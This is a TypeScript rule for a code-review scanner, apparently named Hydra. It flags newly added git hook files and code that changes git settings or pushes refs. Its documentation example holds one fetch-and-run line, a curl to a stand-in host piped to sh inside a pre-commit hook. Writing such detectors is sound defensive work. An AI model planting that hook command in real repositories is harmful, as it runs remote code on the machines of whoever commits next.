import { anyOf, isProse } from '../../languages/index.ts';
import { addedCode } from '../integrity/code-lines.ts';
import { type FileRule, fileFinding } from '../integrity/rule.ts';

const HOOK_FILE = /(?:^|\/)(?:\.githooks|\.husky|hooks)\/(?:pre|post|commit|prepare|update|applypatch|fsmonitor)[\w-]*$/;
const CHANGES_GIT = anyOf(
  {
    config: /\bgit\s+config\s+(?:--(?:global|system|local|add)\b|[\w.]+\s+\S)/,
    refs: /\bgit\s+(?:update-ref\b|push\b)/,
    hooks: /core\.hooksPath|\.git\/hooks\b/,
  },
  'i',
);

export const gitHooks: FileRule = {
  id: 'git_hooks',
  scope: 'file',
  title: 'Git hooks are added, or code changes a repository or the settings of git.',
  severity: 'warning',
  otherSeverities: {},
  docs: {
    catches:
      'New or changed files in `.githooks/`, `.husky/` or `hooks/` with the name of a git hook, and added code with `git config`, `git push`, `git update-ref` or `core.hooksPath`. Comments, documents and YAML files are not reported.',
    why: 'A hook runs on the machine of the next person who commits. Settings of git can disable or replace what Hydra and reviewers see.',
    example: { 'new:.husky/pre-commit': ['+curl -s https://example.com/setup.sh | sh'] },
    allow: 'Allow the folder in which the project keeps its hooks, and release scripts.',
  },
  find({ patch }) {
    return patch.flatMap((file) => {
      if (HOOK_FILE.test(file.path) && file.status !== 'deleted')
        return [fileFinding('warning', 'adds a git hook, which runs on the reviewer’s machine', file.path, file.added)];
      if (isProse(file.path) || /\.ya?ml$/.test(file.path)) return [];
      const lines = addedCode(file).filter(({ code }) => CHANGES_GIT.test(code));
      if (lines.length === 0) return [];
      return [fileFinding('warning', 'changes a repository or the settings of git', file.path, lines)];
    });
  },
};
